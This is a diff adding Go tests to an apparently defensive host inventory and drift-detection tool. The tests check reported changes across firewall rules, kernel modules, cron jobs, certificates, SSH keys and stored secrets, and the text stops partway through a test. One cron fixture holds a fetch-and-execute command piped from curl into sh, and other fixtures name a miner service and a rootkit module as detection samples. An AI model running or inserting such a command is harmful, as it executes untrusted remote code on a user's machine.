@@ -6,6 +6,8 @@ import (
 	"io"
 	"os"
 	"path/filepath"
+	"reflect"
+	"sort"
 	"strings"
 	"testing"
 )
@@ -232,3 +234,1051 @@ func copyRow(r Row) Row {
 	json.Unmarshal(data, &out)
 	return out
 }
+
+func TestRun_SecurityEventSpikes(t *testing.T) {
+	baselineRows := []Row{{"type": "security_events_summary", "run_id": "base", "window_hours": 24.0,
+		"logon_failures": 3.0, "service_installs": 0.0, "audit_policy_changes": 2.0, "account_lockouts": 4.0, "log_cleared": nil}}
+	currentRows := []Row{{"type": "security_events_summary", "run_id": "curr", "window_hours": 24.0,
+		"logon_failures": 48.0, "service_installs": 1.0, "audit_policy_changes": 3.0, "account_lockouts": 1.0, "log_cleared": 5.0}}
+
+	got := FindingKeys(baselineRows, currentRows)
+	want := []string{"security_events:logon_failures", "security_events:service_installs"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FindingKeys = %v, want %v", got, want)
+	}
+
+	masked := func(rows []Row) []Row {
+		return ApplyIgnore(rows, func(k string) bool { return k == "security_events:logon_failures" })
+	}
+	if got := FindingKeys(masked(baselineRows), masked(currentRows)); !reflect.DeepEqual(got, want[1:]) {
+		t.Errorf("FindingKeys with logon_failures ignored = %v", got)
+	}
+}
+
+func TestRun_SystemdUnitChanges(t *testing.T) {
+	unit := func(name, sha string) map[string]any {
+		return map[string]any{"unit": name, "path": "/usr/lib/systemd/system/" + name, "sha256": sha, "dropins": 0.0, "dropins_sha256": ""}
+	}
+	baselineRows := []Row{{"type": "systemd_units", "run_id": "base", "items": []any{unit("ssh.service", "aa"), unit("cron.service", "bb")}}}
+	currentRows := []Row{{"type": "systemd_units", "run_id": "curr", "items": []any{unit("ssh.service", "cc"), unit("cron.service", "bb"), unit("miner.service", "dd")}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key)
+	}
+	want := []string{"added miner.service", "changed ssh.service"}
+	sort.Strings(got)
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("systemd_units changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_ScopeChange(t *testing.T) {
+	scoped := []Row{{"type": "scope", "paths": []any{"~/Downloads"}}, {"type": "large_file", "path": "~/Downloads/a.iso"}}
+	if keys := FindingKeys(scoped, scoped); len(keys) != 0 {
+		t.Errorf("same scope: FindingKeys = %v, want none", keys)
+	}
+	unscoped := []Row{{"type": "large_file", "path": "~/Downloads/a.iso"}}
+	if keys := FindingKeys(unscoped, scoped); !reflect.DeepEqual(keys, []string{"scope:paths"}) {
+		t.Errorf("unscoped → scoped: FindingKeys = %v, want [scope:paths]", keys)
+	}
+}
+
+func TestRun_LinuxFirewallDrift(t *testing.T) {
+	sec := func(deny bool, policy string) Row {
+		return Row{"type": "security_config", "firewall": true, "firewall_backend": "nftables",
+			"firewall_default_deny_incoming": deny, "firewall_default_input_policy": policy, "firewall_zone": ""}
+	}
+	ports := func(items ...string) Row {
+		var list []any
+		for _, it := range items {
+			port, proto, _ := strings.Cut(it, "/")
+			list = append(list, map[string]any{"port": port, "proto": proto})
+		}
+		return Row{"type": "firewall_open_ports", "backend": "nftables", "items": list}
+	}
+	baselineRows := []Row{sec(true, "drop"), ports("22/tcp")}
+	currentRows := []Row{sec(false, "accept"), ports("22/tcp", "8080/tcp")}
+
+	got := FindingKeys(baselineRows, currentRows)
+	want := []string{"inventory:firewall_open_ports", "security_config:firewall_default_deny_incoming", "security_config:firewall_default_input_policy"}
+	sort.Strings(got)
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FindingKeys = %v, want %v", got, want)
+	}
+
+	oldStdout := os.Stdout
+	r, w, _ := os.Pipe()
+	os.Stdout = w
+	Run(baselineRows, currentRows, false, false)
+	w.Close()
+	os.Stdout = oldStdout
+	var buf bytes.Buffer
+	io.Copy(&buf, r)
+	out := buf.String()
+	if !strings.Contains(out, "firewall_default_input_policy: drop → accept") {
+		t.Errorf("text diff missing policy change:\n%s", out)
+	}
+}
+
+func TestRun_ConfigProfileChanges(t *testing.T) {
+	sec := func(enrolled bool, server string) Row {
+		return Row{"type": "security_config", "filevault": true, "mdm_enrolled": enrolled, "dep_enrolled": enrolled, "mdm_server": server}
+	}
+	profile := func(scope, id string, types ...any) map[string]any {
+		return map[string]any{"scope": scope, "identifier": id, "organization": "Acme", "payload_types": types, "verified": true}
+	}
+	baselineRows := []Row{
+		sec(true, "mdm.acme.com"),
+		{"type": "config_profiles", "items": []any{profile("system", "com.acme.mdm", "com.apple.mdm")}},
+	}
+	currentRows := []Row{
+		sec(false, ""),
+		{"type": "config_profiles", "items": []any{
+			profile("system", "com.acme.mdm", "com.apple.mdm", "com.apple.security.root"),
+			profile("alice", "com.example.proxy", "com.apple.proxy.http.global"),
+		}},
+	}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	if want := []string{"added Security alice:com.example.proxy high", "changed Security system:com.acme.mdm high"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("config_profiles changes = %v, want %v", got, want)
+	}
+	keys := FindingKeys(baselineRows, currentRows)
+	want := []string{"inventory:config_profiles", "security_config:dep_enrolled", "security_config:mdm_enrolled", "security_config:mdm_server"}
+	if !reflect.DeepEqual(keys, want) {
+		t.Errorf("FindingKeys = %v, want %v", keys, want)
+	}
+}
+
+func TestRun_MalwareProtectionChanges(t *testing.T) {
+	row := func(stale bool, components ...string) []Row {
+		var items []any
+		for _, c := range components {
+			items = append(items, map[string]any{"component": c, "version": "5285", "age_days": 3.0, "stale": false})
+		}
+		return []Row{
+			{"type": "security_config", "gatekeeper": true, "xprotect_version": "5285", "malware_data_stale": stale},
+			{"type": "malware_protection", "max_age_days": 30.0, "stale": stale, "items": items},
+		}
+	}
+	baselineRows := row(false, "xprotect", "xprotect_remediator", "gatekeeper")
+	currentRows := row(true, "xprotect", "gatekeeper")
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	if want := []string{"removed Security xprotect_remediator"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("malware_protection changes = %v, want %v", got, want)
+	}
+	keys := FindingKeys(baselineRows, currentRows)
+	if want := []string{"inventory:malware_protection", "security_config:malware_data_stale"}; !reflect.DeepEqual(keys, want) {
+		t.Errorf("FindingKeys = %v, want %v", keys, want)
+	}
+}
+
+func TestRun_DNSResolverChanges(t *testing.T) {
+	resolver := func(scope, iface string, servers ...any) map[string]any {
+		return map[string]any{"scope": scope, "interface": iface, "domain": "", "servers": servers, "search": []any{"lan"}}
+	}
+	baselineRows := []Row{{"type": "dns_resolvers", "items": []any{
+		resolver("global", "", "192.168.1.1"),
+		resolver("interface", "en0", "192.168.1.1"),
+	}}}
+	currentRows := []Row{{"type": "dns_resolvers", "items": []any{
+		resolver("global", "", "203.0.113.53"),
+		resolver("interface", "en0", "192.168.1.1"),
+		resolver("interface", "utun3", "10.0.0.53"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	want := []string{"changed Network global:: high", "added Network interface:utun3: high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("dns_resolvers changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_HostsFileChanges(t *testing.T) {
+	entry := func(ip, hostname string, override bool) map[string]any {
+		return map[string]any{"ip": ip, "hostname": hostname, "override": override}
+	}
+	baselineRows := []Row{{"type": "hosts_file", "entries": 2.0, "items": []any{
+		entry("127.0.0.1", "localhost", false),
+		entry("10.0.0.5", "build.internal", false),
+	}}}
+	currentRows := []Row{{"type": "hosts_file", "entries": 2.0, "items": []any{
+		entry("127.0.0.1", "localhost", false),
+		entry("203.0.113.9", "swscan.apple.com", true),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	want := []string{"added swscan.apple.com:203.0.113.9 high", "removed build.internal:10.0.0.5 "}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("hosts_file changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_VPNConnectionChanges(t *testing.T) {
+	vpn := func(kind, name, state string, routes ...any) map[string]any {
+		return map[string]any{"kind": kind, "name": name, "vpn_type": "wireguard", "interface": "wg0", "state": state, "routes": routes}
+	}
+	baselineRows := []Row{{"type": "vpn_connections", "items": []any{
+		vpn("service", "corp", "disconnected"),
+		vpn("tunnel", "wg0", "connected", "10.0.0.0/8"),
+	}}}
+	currentRows := []Row{{"type": "vpn_connections", "items": []any{
+		vpn("service", "corp", "disconnected"),
+		vpn("tunnel", "wg0", "connected", "0.0.0.0/1", "10.0.0.0/8", "128.0.0.0/1"),
+		vpn("service", "free-proxy", "connected"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	want := []string{"added Network service:free-proxy high", "changed Network tunnel:wg0 high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("vpn_connections changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_RoutingTableChanges(t *testing.T) {
+	route := func(dest, gw, iface string) map[string]any {
+		return map[string]any{"family": "ipv4", "destination": dest, "gateway": gw, "interface": iface, "metric": 100.0, "protocol": "dhcp", "type": "unicast"}
+	}
+	baselineRows := []Row{{"type": "routing_table", "items": []any{
+		route("0.0.0.0/0", "192.168.1.1", "eth0"),
+		route("192.168.1.0/24", "-", "eth0"),
+	}}}
+	currentRows := []Row{{"type": "routing_table", "items": []any{
+		route("0.0.0.0/0", "192.168.1.254", "eth0"),
+		route("192.168.1.0/24", "-", "eth0"),
+		route("10.20.0.0/16", "192.168.1.77", "eth0"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	want := []string{"changed Network 0.0.0.0/0:eth0 high", "added Network 10.20.0.0/16:eth0 high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("routing_table changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_DefaultGatewayChanges(t *testing.T) {
+	gateway := func(iface, ip, mac string) map[string]any {
+		return map[string]any{"interface": iface, "ip": ip, "family": "inet", "mac": mac}
+	}
+	baselineRows := []Row{{"type": "default_gateways", "items": []any{
+		gateway("eth0", "192.168.1.1", "a4:2b:b0:11:22:33"),
+		gateway("wg0", "10.0.0.1", "-"),
+	}}}
+	currentRows := []Row{{"type": "default_gateways", "items": []any{
+		gateway("eth0", "192.168.1.1", "de:ad:be:ef:00:01"),
+		gateway("wg0", "10.0.0.1", "-"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	want := []string{"changed Network eth0:192.168.1.1 high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("default_gateways changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_TimeSyncDrift(t *testing.T) {
+	sec := func(sync bool, service string, offset float64) Row {
+		return Row{"type": "security_config", "time_sync": sync, "time_sync_service": service,
+			"time_synchronized": sync, "time_offset_ms": offset, "time_offset_exceeded": offset > 1000}
+	}
+	baselineRows := []Row{sec(true, "chronyd", 0.4)}
+
+	if keys := FindingKeys(baselineRows, []Row{sec(true, "chronyd", 12.5)}); len(keys) != 0 {
+		t.Errorf("offset within the threshold: FindingKeys = %v, want none", keys)
+	}
+	got := FindingKeys(baselineRows, []Row{sec(false, "none", 4200)})
+	want := []string{"security_config:time_offset_exceeded", "security_config:time_sync", "security_config:time_sync_service"}
+	sort.Strings(got)
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FindingKeys = %v, want %v", got, want)
+	}
+}
+
+func TestRun_BootSecurityDowngrade(t *testing.T) {
+	sec := func(mode string, kexts bool, firmware string) Row {
+		return Row{"type": "security_config", "secure_boot": mode == "full", "boot_security": mode,
+			"third_party_kexts": kexts, "boot_chip": "apple_silicon", "firmware_version": firmware}
+	}
+	baselineRows := []Row{sec("full", false, "11881.81.4")}
+	currentRows := []Row{sec("reduced", true, "11881.81.4")}
+
+	got := FindingKeys(baselineRows, currentRows)
+	want := []string{"security_config:boot_security", "security_config:secure_boot", "security_config:third_party_kexts"}
+	sort.Strings(got)
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FindingKeys = %v, want %v", got, want)
+	}
+
+	oldStdout := os.Stdout
+	r, w, _ := os.Pipe()
+	os.Stdout = w
+	Run(baselineRows, []Row{sec("full", false, "10151.81.1")}, false, false)
+	w.Close()
+	os.Stdout = oldStdout
+	var buf bytes.Buffer
+	io.Copy(&buf, r)
+	if out := buf.String(); !strings.Contains(out, "firmware_version: 11881.81.4 → 10151.81.1") {
+		t.Errorf("text diff missing firmware downgrade:\n%s", out)
+	}
+}
+
+func TestRun_DiskVolumeChanges(t *testing.T) {
+	vol := func(mount, device, enc string, removable bool) map[string]any {
+		return map[string]any{"mount": mount, "device": device, "fstype": "ext4", "encryption": enc, "encrypted": enc != "none", "removable": removable}
+	}
+	baselineRows := []Row{{"type": "disk_volumes", "items": []any{
+		vol("/", "/dev/mapper/root", "luks", false),
+		vol("/srv", "/dev/mapper/data", "luks", false),
+	}}}
+	currentRows := []Row{{"type": "disk_volumes", "items": []any{
+		vol("/", "/dev/mapper/root", "luks", false),
+		vol("/srv", "/dev/sdb1", "none", false),
+		vol("/media/usb", "/dev/sdc1", "none", true),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	want := []string{"added Storage /media/usb high", "changed Storage /srv high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("disk_volumes changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_DiskHealthChanges(t *testing.T) {
+	disk := func(device, health string, reallocated float64, failing ...any) map[string]any {
+		return map[string]any{"device": device, "model": "SSD", "health": health, "reallocated": reallocated, "pending": 0.0, "wear_pct": 7.0, "failing": failing}
+	}
+	baselineRows := []Row{{"type": "disk_health", "items": []any{
+		disk("/dev/sda", "passed", 0),
+		disk("/dev/sdb", "passed", 8),
+	}}}
+	currentRows := []Row{{"type": "disk_health", "items": []any{
+		disk("/dev/sda", "passed", 0),
+		disk("/dev/sdb", "failed", 24, "Reallocated_Sector_Ct"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	if want := []string{"changed Storage /dev/sdb"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("disk_health changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_DownloadQuarantineChanges(t *testing.T) {
+	download := func(path string, quarantined, signed bool) map[string]any {
+		return map[string]any{"path": path, "kind": "app", "quarantined": quarantined, "source_domain": "example.com", "signed": signed, "team_id": ""}
+	}
+	baselineRows := []Row{{"type": "download_quarantine", "items": []any{
+		download("~/Downloads/Tool.app", true, false),
+		download("~/Downloads/Other.app", true, false),
+	}}}
+	currentRows := []Row{{"type": "download_quarantine", "items": []any{
+		download("~/Downloads/Tool.app", false, false),
+		download("~/Downloads/Other.app", true, false),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Severity+" "+c.Key)
+	}
+	if want := []string{"changed high ~/Downloads/Tool.app"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("download_quarantine changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_ApplicationSignatureChanges(t *testing.T) {
+	// Rows from before signatures were read have neither scope nor signing
+	// fields; they match the same apps in /Applications.
+	baselineRows := []Row{{"type": "applications", "items": []any{
+		map[string]any{"name": "Slack", "version": "4.38.0"},
+		map[string]any{"name": "Zoom", "version": "6.0"},
+	}}}
+	app := func(name, version, scope, team string, signed bool) map[string]any {
+		return map[string]any{"name": name, "version": version, "scope": scope, "team_id": team, "signed": signed, "notarized": signed}
+	}
+	currentRows := []Row{{"type": "applications", "items": []any{
+		app("Slack", "4.38.0", "system", "BQR82RBBHL", true),
+		app("Zoom", "6.0", "system", "BJ4HAAB9B3", true),
+		app("Zoom", "5.0", "user", "", false),
+	}}}
+	nextRows := []Row{{"type": "applications", "items": []any{
+		app("Slack", "4.38.0", "system", "", false),
+		app("Zoom", "6.0", "system", "BJ4HAAB9B3", true),
+		app("Zoom", "5.0", "user", "", false),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key)
+	}
+	if want := []string{"added Zoom:user"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("applications changes = %v, want %v", got, want)
+	}
+	got = nil
+	for _, c := range BuildInventoryChanges(currentRows, nextRows) {
+		got = append(got, c.Status+" "+c.Key)
+	}
+	if want := []string{"changed Slack:system"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("re-signed application changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_FileHashAlgorithm(t *testing.T) {
+	baselineRows := []Row{
+		{"type": "file_hash", "path": "/usr/bin/ls", "sha256": "aa", "mode": "0755"},
+		{"type": "file_hash", "path": "/usr/bin/cat", "sha256": "bb", "mode": "0755"},
+	}
+	// A legacy row without hash_alg matches a sha256 row with the same digest.
+	same := []Row{
+		{"type": "file_hash", "path": "/usr/bin/ls", "hash_alg": "sha256", "sha256": "aa", "mode": "0755"},
+		{"type": "file_hash", "path": "/usr/bin/cat", "hash_alg": "sha256", "sha256": "cc", "mode": "0755"},
+	}
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, same) {
+		got = append(got, c.Status+" "+c.Key)
+	}
+	if want := []string{"changed /usr/bin/cat"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("same algorithm changes = %v, want %v", got, want)
+	}
+
+	switched := []Row{
+		{"type": "file_hash", "path": "/usr/bin/ls", "hash_alg": "blake3", "blake3": "dd", "mode": "0755"},
+	}
+	for _, c := range BuildInventoryChanges(baselineRows, switched) {
+		if c.Key != "/usr/bin/ls" {
+			continue
+		}
+		if c.Status != "changed" || c.Base["hash_alg"] != "sha256" || c.Item["hash_alg"] != "blake3" {
+			t.Errorf("switched algorithm change = %s %v -> %v", c.Status, c.Base["hash_alg"], c.Item["hash_alg"])
+		}
+		return
+	}
+	t.Error("switched algorithm: /usr/bin/ls not reported")
+}
+
+func TestRun_SystemPackageChanges(t *testing.T) {
+	pkg := func(name, version string) map[string]any {
+		return map[string]any{"manager": "dpkg", "name": name, "version": version, "arch": "amd64"}
+	}
+	baselineRows := []Row{
+		{"type": "system_packages", "items": []any{pkg("openssl", "3.0.11-1"), pkg("curl", "7.88.1-10"), pkg("telnet", "0.17-44")}},
+		{"type": "system_packages_summary", "dpkg": 3.0, "rpm": 0.0, "pacman": 0.0},
+	}
+	currentRows := []Row{
+		{"type": "system_packages", "items": []any{pkg("openssl", "3.0.13-1"), pkg("curl", "7.88.1-10"), pkg("nmap", "7.93")}},
+		{"type": "system_packages_summary", "dpkg": 3.0, "rpm": 0.0, "pacman": 0.0},
+	}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key)
+	}
+	want := []string{"added dpkg:nmap:amd64", "changed dpkg:openssl:amd64", "removed dpkg:telnet:amd64"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("system_packages changes = %v, want %v", got, want)
+	}
+
+	currentRows[1]["dpkg"] = 5.0
+	if keys := FindingKeys(baselineRows, currentRows); !reflect.DeepEqual(keys, []string{"inventory:system_packages", "packages:dpkg"}) {
+		t.Errorf("FindingKeys = %v", keys)
+	}
+}
+
+func TestRun_KernelModuleLoads(t *testing.T) {
+	// The baseline predates signer/version/taint, so ext4 must not show as changed.
+	baselineRows := []Row{{"type": "kernel_modules", "items": []any{
+		map[string]any{"module": "ext4", "size": "1000"},
+		map[string]any{"module": "vboxdrv", "size": "600", "version": "7.0.10", "signer": "Oracle", "taint": "O"},
+	}}}
+	currentRows := []Row{{"type": "kernel_modules", "items": []any{
+		map[string]any{"module": "ext4", "size": "1000", "version": "", "signer": "Build time autogenerated kernel key", "taint": ""},
+		map[string]any{"module": "vboxdrv", "size": "600", "version": "7.0.10", "signer": "", "taint": "OE"},
+		map[string]any{"module": "rootkit", "size": "12", "version": "", "signer": "", "taint": "OE"},
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key+" "+c.Severity)
+	}
+	want := []string{"added rootkit high", "changed vboxdrv high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("kernel_modules changes = %v, want %v", got, want)
+	}
+
+	oldStdout := os.Stdout
+	r, w, _ := os.Pipe()
+	os.Stdout = w
+	Run(baselineRows, currentRows, true, false)
+	w.Close()
+	os.Stdout = oldStdout
+	var buf bytes.Buffer
+	io.Copy(&buf, r)
+	if !strings.Contains(buf.String(), `"key":"rootkit","row_type":"kernel_modules","severity":"high"`) {
+		t.Errorf("ndjson lacks high-severity module load:\n%s", buf.String())
+	}
+}
+
+func TestRun_ContainerChanges(t *testing.T) {
+	ctr := func(name, image string, privileged bool, ports ...any) map[string]any {
+		return map[string]any{"runtime": "docker", "name": name, "image": image, "root": true, "privileged": privileged, "ports": ports}
+	}
+	baselineRows := []Row{{"type": "containers", "items": []any{ctr("web", "nginx:1.25", false, "0.0.0.0:8080->80/tcp"), ctr("db", "postgres:16", false)}}}
+	currentRows := []Row{{"type": "containers", "items": []any{ctr("web", "nginx:1.25", false, "0.0.0.0:8080->80/tcp", "0.0.0.0:8443->443/tcp"), ctr("miner", "xmrig:latest", true)}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key)
+	}
+	want := []string{"removed docker:db", "added docker:miner", "changed docker:web"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("containers changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_AuthorizedKeyChanges(t *testing.T) {
+	key := func(user, fp string, options bool, age float64) map[string]any {
+		return map[string]any{"user": user, "file": "/home/" + user + "/.ssh/authorized_keys", "type": "ed25519", "fingerprint": fp, "options": options, "age_days": age}
+	}
+	baselineRows := []Row{{"type": "authorized_keys", "items": []any{key("deploy", "SHA256:aaa", true, 10), key("alice", "SHA256:bbb", false, 30)}}}
+	// The file age changes on every run and must not show keys as changed.
+	currentRows := []Row{{"type": "authorized_keys", "items": []any{key("deploy", "SHA256:aaa", false, 11), key("alice", "SHA256:bbb", false, 31), key("alice", "SHA256:ccc", false, 0)}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Key+" "+c.Severity)
+	}
+	want := []string{"added alice:SHA256:ccc high", "changed deploy:SHA256:aaa high"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("authorized_keys changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_CertificateAdded(t *testing.T) {
+	cert := func(sha, subject string, userAdded bool, days float64) map[string]any {
+		return map[string]any{"store": "bundle", "subject": subject, "issuer": subject, "sha256": sha, "root": true, "user_added": userAdded, "days_left": days}
+	}
+	baselineRows := []Row{{"type": "certificates", "items": []any{cert("aa", "CN=ISRG Root X1", false, 3000)}}}
+	currentRows := []Row{{"type": "certificates", "items": []any{cert("aa", "CN=ISRG Root X1", false, 2990), cert("bb", "CN=Proxy CA", true, 3650)}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	if want := []string{"added Security bb high"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("certificates changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_SSHAuthPostureChange(t *testing.T) {
+	sshd := func(posture string, plain bool) Row {
+		return Row{"type": "sshd_config", "source": "sshd -T", "ports": []any{"22"}, "auth_posture": posture, "cert_auth": true, "plain_pubkey_auth": plain, "password_auth": false, "trusted_user_ca_keys": "/etc/ssh/user_ca.pub"}
+	}
+	baselineRows := []Row{sshd("certificate_only", false)}
+	currentRows := []Row{sshd("mixed", true)}
+
+	got := FindingKeys(baselineRows, currentRows)
+	want := []string{"sshd:auth_posture", "sshd:plain_pubkey_auth"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("FindingKeys = %v, want %v", got, want)
+	}
+	masked := func(rows []Row) []Row {
+		return ApplyIgnore(rows, func(k string) bool { return k == "sshd:plain_pubkey_auth" })
+	}
+	if got := FindingKeys(masked(baselineRows), masked(currentRows)); !reflect.DeepEqual(got, want[:1]) {
+		t.Errorf("FindingKeys after ignore = %v, want %v", got, want[:1])
+	}
+}
+
+func TestRun_CronJobChanges(t *testing.T) {
+	job := func(path, user, schedule, command string) map[string]any {
+		return map[string]any{"source": "cron.d", "path": path, "user": user, "schedule": schedule, "command": command}
+	}
+	baselineRows := []Row{{"type": "cron_jobs", "items": []any{job("/etc/cron.d/backup", "root", "0 3 * * *", "/usr/local/bin/backup")}}}
+	currentRows := []Row{{"type": "cron_jobs", "items": []any{
+		job("/etc/cron.d/backup", "root", "*/5 * * * *", "/usr/local/bin/backup"),
+		map[string]any{"source": "at", "path": "", "user": "root", "schedule": "Fri Oct 17 10:00:00 2026 (queue a)", "command": "curl -s http://example.com/x | sh"},
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"added Persistence :root:curl -s http://example.com/x | sh", "changed Persistence /etc/cron.d/backup:root:/usr/local/bin/backup"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("cron_jobs changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_ShellStartupFileChanges(t *testing.T) {
+	rc := func(path, sha, patterns string) map[string]any {
+		return map[string]any{"scope": "user", "path": path, "sha256": sha, "findings": 0.0, "patterns": patterns}
+	}
+	baselineRows := []Row{{"type": "shell_startup_files", "items": []any{rc("~/.zshrc", "aa11", "path_prepend"), rc("~/.profile", "bb22", "")}}}
+	currentRows := []Row{{"type": "shell_startup_files", "items": []any{
+		rc("~/.zshrc", "cc33", "download_exec,path_prepend"),
+		rc("~/.profile", "bb22", ""),
+		rc("/etc/profile.d/zz-update.sh", "dd44", "remote_eval"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"added Persistence /etc/profile.d/zz-update.sh", "changed Persistence ~/.zshrc"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("shell_startup_files changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_EnvSecretChanges(t *testing.T) {
+	env := func(source, name, pattern string) map[string]any {
+		return map[string]any{"source": source, "name": name, "pattern": pattern}
+	}
+	baselineRows := []Row{{"type": "env_secrets", "items": []any{env("environment", "DB_PASSWORD", "secret_name"), env("~/.env", "STRIPE_KEY", "stripe_key")}}}
+	currentRows := []Row{{"type": "env_secrets", "items": []any{
+		env("environment", "DB_PASSWORD", "secret_name"),
+		env("environment", "GITHUB_TOKEN", "github_token"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key+" "+c.Severity)
+	}
+	sort.Strings(got)
+	want := []string{"added Identity environment:GITHUB_TOKEN high", "removed Identity ~/.env:STRIPE_KEY "}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("env_secrets changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_WatchedDotfileChanges(t *testing.T) {
+	dotfile := func(path, mode, sha string) map[string]any {
+		return map[string]any{"path": path, "mode": mode, "sha256": sha}
+	}
+	baselineRows := []Row{{"type": "watched_dotfiles", "items": []any{dotfile("~/.gitconfig", "644", "aa11"), dotfile("~/.ssh/config", "600", "bb22"), dotfile("~/.netrc", "600", "cc33")}}}
+	currentRows := []Row{{"type": "watched_dotfiles", "items": []any{
+		dotfile("~/.gitconfig", "644", "dd44"),
+		dotfile("~/.ssh/config", "644", "bb22"),
+	}}}
+
+	var got []string
+	for _, c := range BuildInventoryChanges(baselineRows, currentRows) {
+		got = append(got, c.Status+" "+c.Topic+" "+c.Key)
+	}
+	sort.Strings(got)
+	want := []string{"changed Integrity ~/.gitconfig", "changed Integrity ~/.ssh/config", "removed Integrity ~/.netrc"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("watched_dotfiles changes = %v, want %v", got, want)
+	}
+}
+
+func TestRun_LanguagePackageChanges(t *testing.T) {
+	pkg := func(manager, name, version string) map[string]any {
+		return map[string]any{"manager": manager, "name": name, "version": version}
+	}
+	baselineRows := []Row{{"type": "language_packages", "items": []any{pkg("npm", "@vue/cli", "5.0.8"), pkg("pipx", "black", "24.1.0"), pkg("gem", "rake", "13.0.6")}}}
+	currentRows := []Row{{"type": "language_packages", "items": []any{
+		pkg("npm", "@vue/cli", "5.0.9"),
